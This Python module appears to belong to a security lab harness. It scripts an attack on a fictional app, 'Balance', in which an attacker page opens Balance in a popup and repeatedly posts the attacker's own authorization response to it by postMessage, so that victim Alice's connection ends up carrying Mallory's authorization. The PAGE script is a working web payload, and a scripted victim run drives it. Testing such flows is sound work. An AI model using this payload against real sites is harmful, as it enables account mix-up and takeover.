"""A page opens Balance in a window, and speaks to it while Balance waits for Bank ID."""

from typing import Any
from urllib.parse import urlencode

from flask import Response, render_template_string, request

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck, parameters_in
from labs.steps import step

# It says it each second, for it cannot see when Balance begins to wait.
PAGE = """{% extends "pages/statement.html" %}
{% block script %}<script>
const answer = { type: "authorization_response", response: {{ response | tojson }} };
document.querySelector("button").addEventListener("click", () => {
  const balance = window.open("{{ balance }}/", "balance", "popup,width=560,height=800");
  let times = 0;
  setInterval(() => {
    balance.postMessage(answer, "*");
    if (++times === 1) fetch("/spoken", { method: "POST" });
  }, 1000);
});
</script>{% endblock %}"""


def statement(world: Any) -> Response:
    """Open Balance when the button is pressed, and say to it each second what stands in this page's URL."""
    page = Response(render_template_string(PAGE, balance=world.here.balance, response=request.args))
    scripts = "script-src 'unsafe-inline'; connect-src 'self'"
    page.headers["Content-Security-Policy"] = f"default-src 'none'; style-src 'self'; {scripts}"
    return page


PAGES = {"/statement": statement}


@step("attacker")
def mallory_keeps_her_answer(stage: Stage) -> None:
    """Let Mallory sign in and allow Balance, in her own browser, up to the last redirect; put the answer on a page."""
    stage.mallory.holds_back = stage.callback("balance")
    stage.mallory.go(stage.link("balance", stage.callback("balance"))).agree()
    if not stage.mallory.handed_over:
        raise Stuck("Mallory was not sent back to Balance")
    stage.onward = f"{stage.here.attacker}/statement?{urlencode(parameters_in(stage.mallory.handed_over))}"


@step("Alice")
def alice_connects_in_a_window(stage: BrowserStage) -> None:
    """Follow the link, press the button, and in Balance “Connect in a window”. If it keeps waiting, allow it."""
    page = stage.lead_alice().tab
    # The page that opened Balance may speak to it: a window's opener keeps a handle, whatever the origins are.
    with page.expect_popup() as opened:
        page.get_by_role("button", name="Sign in to read it").click()
    balance = stage.alice.tab = opened.value
    balance.wait_for_load_state()
    with balance.expect_popup() as opened:
        balance.get_by_role("button", name="Connect in a window").click()
    connected = balance.get_by_role("heading", name="Your balance")
    connected.or_(balance.get_by_text("Another page sent an answer")).wait_for()
    if not connected.is_visible():
        stage.alice.tab = opened.value
        stage.alice.sign_in()
        with opened.value.expect_event("close"):
            opened.value.get_by_role("button", name="Allow").click(no_wait_after=True)
        stage.alice.tab = balance
    stage.alice.rest()
